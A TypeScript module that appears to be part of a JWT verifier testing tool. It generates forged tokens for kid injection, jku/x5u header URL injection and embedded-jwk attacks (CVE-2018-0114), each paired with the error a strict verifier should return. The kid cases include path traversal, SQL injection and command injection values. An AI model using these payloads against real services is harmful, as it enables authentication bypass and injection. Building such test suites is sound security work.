import { defineAttack } from '../attack';
import type { AsymmetricAlgorithm } from '../attacker';
import { compactToken } from '../compact-token';
import { PREDICTABLE_FILES } from '../predictable-files';
import { utf8 } from '../public-key-encodings';
import { validParts } from '../valid-token';
import { FORGED_CLAIMS } from './signature-attacks';

/** The attacker signs with the same asymmetric alg the target uses, so only the key source differs. */
function attackerAlg(alg: string): AsymmetricAlgorithm {
  return alg.startsWith('HS') ? 'ES256' : (alg as AsymmetricAlgorithm);
}

export const kidInjection = defineAttack(
  {
    id: 'A7',
    name: 'kid injection',
    note: 'A kid that a server turns into a file path or SQL query picks a key the attacker knows, and the token is MACed with it.',
    clauses: ['RFC 8725 §3.10', 'RFC 7515 §4.1.4'],
    checklist: [7],
  },
  async ({ target }) => {
    const strict = target.key.alg === 'HS256' ? 'ERR_JWKS_NO_MATCHING_KEY' : 'ERR_JOSE_ALG_NOT_ALLOWED';
    const cases: Array<[string, string, string, string]> = [
      [
        'dev-null-traversal',
        '../../../../../../../dev/null',
        PREDICTABLE_FILES['/dev/null'] ?? '',
        'the empty file /dev/null',
      ],
      ['dev-null-absolute', '/dev/null', PREDICTABLE_FILES['/dev/null'] ?? '', 'the empty file /dev/null'],
      [
        'proc-file-traversal',
        '../../../../../../../proc/sys/kernel/randomize_va_space',
        PREDICTABLE_FILES['/proc/sys/kernel/randomize_va_space'] ?? '',
        'the content of randomize_va_space ("2\\n")',
      ],
      ['sql-union', "x' UNION SELECT '1';--", '1', "the value '1' the injected SELECT returns"],
      ['command', '|sleep 10', '', 'an empty key (the command runs before any key is read)'],
      ['empty-kid', '', '', 'an empty key'],
    ];
    return Promise.all(
      cases.map(async ([variant, kid, secret, what]) => {
        const { header, claims } = validParts(target, {
          header: { alg: 'HS256', kid },
          claims: FORGED_CLAIMS,
        });
        return {
          variant,
          token: await compactToken(header, claims, {
            kind: 'sign',
            alg: 'HS256',
            key: utf8(secret),
          }),
          note: `kid ${JSON.stringify(kid)}, HS256 keyed with ${what}.`,
          strict,
        };
      }),
    );
  },
);

export const headerUrlInjection = defineAttack(
  {
    id: 'A8',
    name: 'jku / x5u injection',
    note: "The header points at the attacker host's JWKS or certificate; a verifier that fetches it verifies the attacker's own signature.",
    clauses: ['RFC 8725 §3.10', 'RFC 7515 §4.1.2', 'RFC 7515 §4.1.5', 'OWASP ASVS 5.0 9.1.3'],
    checklist: [6],
  },
  async ({ target, attacker }) => {
    const alg = attackerAlg(target.key.alg);
    const strict =
      alg === target.key.alg ? 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED' : 'ERR_JOSE_ALG_NOT_ALLOWED';
    // The attacker publishes its key under the issuer's own kid, so kid-matching does not give it away.
    const sameKid = await attacker.key(alg, target.key.kid);
    const ownKid = await attacker.key(alg);
    const sign = async (kid: string, extra: Record<string, unknown>, privateKey: CryptoKey) => {
      const { header, claims } = validParts(target, {
        header: { alg, kid, ...extra },
        claims: FORGED_CLAIMS,
      });
      return compactToken(header, claims, {
        kind: 'sign',
        alg,
        key: privateKey,
      });
    };
    return [
      {
        variant: 'jku',
        token: await sign(sameKid.kid, { jku: attacker.jwksUrl }, sameKid.privateKey),
        note: `jku ${attacker.jwksUrl}, whose JWKS serves the attacker key under the issuer kid ${sameKid.kid}.`,
        strict,
      },
      {
        variant: 'jku-own-kid',
        token: await sign(ownKid.kid, { jku: attacker.jwksUrl }, ownKid.privateKey),
        note: `jku ${attacker.jwksUrl} with the attacker's own kid ${ownKid.kid}.`,
        strict: alg === target.key.alg ? 'ERR_JWKS_NO_MATCHING_KEY' : strict,
      },
      {
        variant: 'x5u',
        token: await sign(ownKid.kid, { x5u: attacker.certificateUrl(ownKid.kid) }, ownKid.privateKey),
        note: `x5u ${attacker.certificateUrl(ownKid.kid)}, a self-signed certificate for the attacker key.`,
        strict: alg === target.key.alg ? 'ERR_JWKS_NO_MATCHING_KEY' : strict,
      },
    ];
  },
);

export const embeddedJwk = defineAttack(
  {
    id: 'A9',
    name: 'Embedded jwk',
    note: "The attacker's public key travels in the header's jwk parameter; a verifier that trusts it verifies the attacker's signature (CVE-2018-0114).",
    clauses: ['RFC 8725 §3.10', 'RFC 7515 §4.1.3', 'RFC 7517 §9.1', 'OWASP ASVS 5.0 9.1.3'],
    checklist: [6],
  },
  async ({ target, attacker }) => {
    const alg = attackerAlg(target.key.alg);
    const key = await attacker.key(alg);
    const strict =
      alg === target.key.alg ? 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED' : 'ERR_JOSE_ALG_NOT_ALLOWED';
    const { header, claims } = validParts(target, {
      header: { alg, jwk: key.publicJwk },
      claims: FORGED_CLAIMS,
    });
    return [
      {
        variant: 'jwk-header',
        token: await compactToken(header, claims, {
          kind: 'sign',
          alg,
          key: key.privateKey,
        }),
        note: `Header jwk = the attacker's ${alg} public key, issuer kid ${target.key.kid}, signed by the attacker.`,
        strict,
      },
    ];
  },
);
